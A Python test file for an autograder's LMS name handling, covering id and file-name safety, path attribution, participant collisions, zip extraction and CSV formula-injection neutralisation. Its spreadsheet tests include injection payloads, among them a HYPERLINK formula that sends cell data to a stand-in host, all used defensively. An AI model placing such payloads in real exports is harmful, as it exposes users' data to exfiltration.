"""Names are data, the fast rules: ids and file names made from names, who a download's path names,
which participants are refused, and CSV cells a spreadsheet cannot run.

The LMS files are read back by ports of the LMSs' own import rules (Canvas's
``gradebook_importer.rb``, Moodle's ``importgradeslib.php`` and ``importziplib.php``) and by the
preset's own reader of Moodle's worksheet; tests/test_lms_hostile_names.py runs the same names
through real ``week12`` commands.
"""

from __future__ import annotations

import csv
import io
import os
import re
import unicodedata
import zipfile
from datetime import datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from traitlets.config import Config, Configurable

from autograder.collect.participants import DownloadFile, refusals
from autograder.collect.extractor import SafeExtractor
from autograder.collect.names import safe_student_id
from autograder.collect.report import read_problems
from autograder.lms import canvas, moodle
from autograder.lms.names import NAME_MAX_BYTES, cut_to_bytes, fitting_name, id_from_name, utf8_length
from autograder.lms.presets import read_download_file
from autograder.lms.roster import LmsFile
from autograder.lms.spreadsheet import csv_text, safe_cell
from tests.test_lms_round_trip import _moodle_accepts

NOTEBOOK = "edge_filter.ipynb"
LONG_KOREAN = "가" * 99 + "나 " + "김" * 100  # Moodle's 100 + 100 characters: 601 bytes
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would run the CSV cell: text starting with = + - @, a tab or a carriage
    return that is not a plain decimal number."""
    return cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?", cell)


# --- ids ------------------------------------------------------------------------------------------

def test_one_name_composed_and_decomposed_is_one_id():
    name = "박지호 Lee"
    assert unicodedata.normalize("NFD", name) != name
    assert id_from_name(unicodedata.normalize("NFD", name)) == id_from_name(name) == "박지호-Lee"


@pytest.mark.parametrize("hidden", ["\u200b", "\u200d", "\ufeff", "\u202e", "\u2066"])
def test_invisible_characters_make_no_other_id(hidden):
    assert id_from_name(f"Kim Min{hidden}ji") == id_from_name("Kim Minji") == "Kim-Minji"


def test_look_alike_letters_of_another_script_are_another_id():
    assert id_from_name("Аnna Kim") != id_from_name("Anna Kim")  # Cyrillic А


@pytest.mark.parametrize("name, student", [("Lee Haeun", "Lee-Haeun"), ("김민지", "김민지"), ("Park  Jiho", "Park-Jiho"),
                                           ("=1+1", "1+1"), ("-2+3 Park", "2+3-Park"), ("@SUM(1+1)", "SUM1+1"),
                                           ("Kim..Minji", "Kim.Minji")])
def test_ids_keep_the_name_in_safe_characters(name, student):
    assert id_from_name(name) == student and safe_student_id(student)


def test_a_long_korean_name_makes_a_safe_id_within_bytes():
    student = id_from_name(LONG_KOREAN)
    assert safe_student_id(student) and len(student) <= 64 and utf8_length(student) <= 192
    assert student.startswith("가" * 20)


def test_long_names_alike_up_to_the_cut_are_different_ids():
    assert id_from_name(LONG_KOREAN) != id_from_name(LONG_KOREAN[:-1] + "이")


def test_an_id_too_long_in_bytes_is_not_safe():
    assert safe_student_id("가" * 64) and not safe_student_id("\U00020000" * 49)  # 4-byte letters: 196 bytes


@settings(max_examples=200, deadline=None)
@given(name=st.text(max_size=300))
def test_any_name_gives_a_safe_id_or_none(name):
    student = id_from_name(name)
    assert student == "" or safe_student_id(student)
    assert id_from_name(unicodedata.normalize("NFD", name)) == id_from_name(unicodedata.normalize("NFC", name))


# --- file names -----------------------------------------------------------------------------------

@settings(max_examples=200, deadline=None)
@given(name=st.text(min_size=1, max_size=400).filter(lambda text: "/" not in text and "\0" not in text))
def test_any_name_fits_a_file_name(name):
    fitted = fitting_name(name)
    assert utf8_length(fitted) <= NAME_MAX_BYTES and (fitted == name or utf8_length(name) > NAME_MAX_BYTES)


def test_a_name_too_long_for_a_file_is_cut_by_bytes_and_keeps_its_extension(tmp_path):
    name = f"{LONG_KOREAN}_103_assignsubmission_file_{NOTEBOOK}"
    fitted = fitting_name(name)
    assert utf8_length(name) > NAME_MAX_BYTES >= utf8_length(fitted) and fitted.endswith(".ipynb")
    (tmp_path / fitted).write_text("{}")  # the file system takes it
    assert fitting_name("short.ipynb") == "short.ipynb"


def test_names_cut_to_fit_stay_distinct():
    assert fitting_name(LONG_KOREAN + ".ipynb") != fitting_name(LONG_KOREAN[:-1] + "이.ipynb")


def test_cutting_by_bytes_never_splits_a_character():
    assert cut_to_bytes("가나다", 7) == "가나" and cut_to_bytes("가나다", 9) == "가나다"


# --- who a path names -------------------------------------------------------------------------------

@pytest.mark.parametrize("top", ["_12345_assignsubmission_file", "Lee Haeun_12345_assignsubmission_file"])
def test_a_folder_inside_an_upload_never_names_another_participant(top):
    found = moodle.read_path(f"{top}/Kim Minji_12346_assignsubmission_file/{NOTEBOOK}")
    assert (found.lms_id, found.file_id, found.folder) == ("12345", NOTEBOOK, top)


def test_an_empty_name_part_is_the_participant_known_by_their_id():
    found = moodle.read_path(f"_12345_assignsubmission_file_{NOTEBOOK}")
    assert (found.student_id, found.lms_id, found.name) == ("participant-12345", "12345", "")


def test_a_path_whose_top_names_nobody_names_nobody():
    assert moodle.read_path(f"notes/Kim Minji_12346_assignsubmission_file/{NOTEBOOK}") is None
    assert read_download_file("canvas", "", f"kimminji_1001_5001_x/leehaeun_1002_5002_{NOTEBOOK}", "") is None
    assert read_download_file("canvas", "", f"leehaeun_1002_5002_{NOTEBOOK}", "").lms_id == "1002"


# --- feedback archives ------------------------------------------------------------------------------

@pytest.mark.parametrize("folders", [True, False])
def test_a_long_names_moodle_feedback_fits_and_still_names_the_participant(folders):
    prefix = f"{LONG_KOREAN}_103_assignsubmission_file"
    entry = LmsFile(student_id="x", file_id="", lms="moodle", name=LONG_KOREAN, lms_id="103", folder=prefix,
                    folders=folders)
    member = moodle.feedback_member(entry, "edge_filter.html")
    assert all(utf8_length(part) <= NAME_MAX_BYTES for part in member.split("/"))
    assert _moodle_accepts(member) and member.split("/")[-1].endswith("edge_filter.html")
    assert member.split("_")[1] == "103"


def test_a_short_names_moodle_feedback_is_the_downloads_own_folder():
    entry = LmsFile(student_id="x", file_id="", lms="moodle", name="Kim Minji", lms_id="7",
                    folder="Kim Minji_7_assignsubmission_file", folders=True)
    assert moodle.feedback_member(entry, "p.html") == "Kim Minji_7_assignsubmission_file/p.html"


def test_a_long_names_canvas_feedback_folder_fits_and_ends_with_the_user_id():
    entry = LmsFile(student_id="1001", file_id="", lms="canvas", name="김" * 255, lms_id="1001")
    folder = canvas.feedback_folder(entry, "1001")
    assert utf8_length(folder) <= NAME_MAX_BYTES and folder.endswith("_1001")


# --- who is refused ---------------------------------------------------------------------------------

def _file(path: str, name: str, participant: str, collected_as: str = NOTEBOOK, student: str | None = None):
    found = LmsFile(student_id=student or moodle.student_id_for(name, participant), file_id=collected_as,
                    lms="moodle", name=name, lms_id=participant)
    return DownloadFile(path, path, found, collected_as)


def test_two_participants_of_one_id_are_both_refused_and_each_told_of_the_other():
    files = [_file("a", "Kim Minji", "110"), _file("b", "Kim Min\u200bji", "111"), _file("c", "Lee Haeun", "112"),
             _file("d", "Kim Minji", "110", "data.csv")]
    refused, said = refusals(files)
    assert refused == {"a", "b", "d"}
    assert [(r.kind, r.student) for r in said] == [("name_collision", "Kim-Minji")] * 2
    first, second = (r.detail for r in said)
    assert first.index("participant 110 'Kim Minji'") < first.index("participant 111 'Kim Min<U+200B>ji'")
    assert second.index("participant 111") < second.index("participant 110")


def test_one_participant_under_two_ids_is_refused():
    refused, said = refusals([_file("a", "Kim Minji", "110"), _file("b", "Lee Haeun", "110")])
    assert refused == {"a", "b"} and {r.student for r in said} == {"Kim-Minji", "Lee-Haeun"}


def test_two_files_that_become_one_are_both_refused_whatever_they_are():
    files = [_file("x/data.csv", "Kim", "1", "data.csv"), _file("x/sub/data.csv", "Kim", "1", "data.csv"),
             _file("x/e.ipynb", "Kim", "1")]
    refused, said = refusals(files)
    assert refused == {"x/data.csv", "x/sub/data.csv"}
    assert [(r.kind, r.student) for r in said] == [("duplicate", "Kim")] and "x/sub/data.csv" in said[0].detail


def test_look_alike_participants_are_both_kept():
    assert refusals([_file("a", "Anna Kim", "1"), _file("b", "Аnna Kim", "2")]) == (set(), [])


# --- unpacking --------------------------------------------------------------------------------------

def test_long_names_are_unpacked_shortened_and_keep_their_path_in_the_download(tmp_path):
    long_folder = f"{LONG_KOREAN}_103_assignsubmission_file"
    members = {f"{long_folder}/{NOTEBOOK}": b"{}", f"Kim_7_assignsubmission_file/{NOTEBOOK}": b"{}",
               "Kim_7_assignsubmission_file/a": b"file", "Kim_7_assignsubmission_file/a/b": b"under a file"}
    (tmp_path / "archive").mkdir()
    with zipfile.ZipFile(tmp_path / "archive" / "download.zip", "w") as packed:
        for name, data in members.items():
            packed.writestr(name, data)
    report = tmp_path / "report.jsonl"
    parent = Configurable(config=Config({"CollectReport": {"report_file": str(report)}}))
    extractor = SafeExtractor(parent=parent)
    extractor.extract(str(tmp_path / "archive"), str(tmp_path / "extracted"))
    written = {str(path): path.read_bytes() for path in (tmp_path / "extracted").rglob("*") if path.is_file()}
    assert {extractor.lms_paths[path] for path in written} == set(members) - {"Kim_7_assignsubmission_file/a/b"}
    assert all(utf8_length(part) <= NAME_MAX_BYTES for path in written for part in path.split(os.sep))
    assert [problem.kind for problem in read_problems(report)] == ["unsafe_member"]


# --- spreadsheets -----------------------------------------------------------------------------------

@pytest.mark.parametrize("text", ["=1+1", "+1-2 Kim", "-2+3 Park", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1",
                                  "\u200b=1+1", "＝1+1", '=HYPERLINK("http://x.example/?"&A1,"Click")'])
def test_text_that_could_start_a_formula_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@settings(max_examples=300, deadline=None)
@given(text=st.text(max_size=40))
def test_no_text_cell_is_written_as_a_formula(text):
    assert not is_formula(safe_cell(text))


@pytest.mark.parametrize("value, written", [(-1, "-1"), ("-1", "-1"), (2.5, "2.5"), ("+2.5", "+2.5"), ("1e3", "1e3"),
                                            (0.0, "0.0"), (None, "")])
def test_numbers_stay_numbers(value, written):
    assert safe_cell(value) == written


@pytest.mark.parametrize("text", ["Kim Minji", "김민지", "Participant 12", "    Points Possible", "12주차 숙제 (777)"])
def test_ordinary_text_is_written_as_it_is(text):
    assert safe_cell(text) == text


def test_csv_text_quotes_and_neutralises_each_cell():
    rows = list(csv.reader(io.StringIO(csv_text([["name", "score"], ["Kim, =1", -1], ["=1+1", 7.5]]))))
    assert rows == [["name", "score"], ["Kim, =1", "-1"], ["'=1+1", "7.5"]]


HOSTILE = {"1001": "=1+1", "1002": "-2+3 Park", "1003": "@SUM(A1)", "1004": "김민지", "anon_k3J9x": "\t=cmd"}


def canvas_import(text: str) -> dict[str, str]:
    """Canvas's gradebook_importer.rb, its rules for what it reads: a header row whose first cell
    includes "Student" and second "ID", its student columns ending with "Section"; a row whose first
    cell includes "Points Possible" is not a student; a student is found by ``row[1]`` (the user id;
    ``to_i`` there, so a cell "'1001" would find nobody); a grade is the cell stripped. Returns
    user id -> the first assignment's grade."""
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    assert "Student" in header[0] and "ID" in header[1] and "Section" in header[4]
    grades = {}
    for row in rows[1:]:
        if "Points Possible" in row[0]:
            continue
        assert row[1] == row[1].strip() and (row[1].isdigit() or row[1].startswith("anon_")), row[1]
        grades[row[1]] = row[5].strip()
    return grades


def test_canvas_gradebook_import_reads_every_student_and_grade_and_runs_no_formula():
    scores = {(user, "숙제"): float(index) - 1.5 for index, user in enumerate(HOSTILE)}
    text = canvas.grades_csv([("숙제", "777", 10.0)], HOSTILE, scores)
    assert {user: float(grade) for user, grade in canvas_import(text).items()} == {u: s for (u, _), s in scores.items()}
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(is_formula(cell) for cell in cells) and "'=1+1" in cells and "-1.5" in cells


def moodle_import(text: str) -> dict[str, str]:
    """Moodle's importgradeslib.php: the columns named "Identifier", "Grade" and "Last modified
    (grade)" are found by their exact header; a participant is the Identifier with "Participant "
    cut off. Returns participant id -> grade."""
    rows = list(csv.reader(io.StringIO(text)))
    index = {column: rows[0].index(column) for column in ("Identifier", "Grade", "Last modified (grade)")}
    return {row[index["Identifier"]][len("Participant "):]: row[index["Grade"]] for row in rows[1:]}


def test_moodle_worksheet_imports_every_grade_and_runs_no_formula():
    rows = [(LmsFile(student_id="s", file_id="", lms="moodle", name=name, lms_id=str(200 + index)),
             None if index == 4 else index - 1.0, 10.0, "자동 채점") for index, name in enumerate(HOSTILE.values())]
    text = moodle.worksheet_csv(rows, datetime(2026, 5, 26))
    assert moodle_import(text) == {"200": "-1", "201": "0", "202": "1", "203": "2", "204": ""}
    assert set(moodle.read_worksheet(text)) == {"200", "201", "202", "203", "204"}  # the preset's own reader
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(is_formula(cell) for cell in cells) and "'-2+3 Park" in cells and "-1" in cells


def test_a_name_that_looks_like_markup_is_printed_as_written():
    from rich.console import Console

    from autograder.collect.report import CollectProblem
    from autograder.workflow.autograde import AutogradeResult
    from autograder.workflow.summary import summary_tables

    result = AutogradeResult("hw", collected=[CollectProblem("unknown_notebook", "[/]Kim", "hw", "found '[red]x.ipynb'")])
    out = io.StringIO()
    for table in summary_tables([result], []):
        Console(file=out, width=200).print(table)
    assert "[/]Kim" in out.getvalue() and "[red]x.ipynb" in out.getvalue()
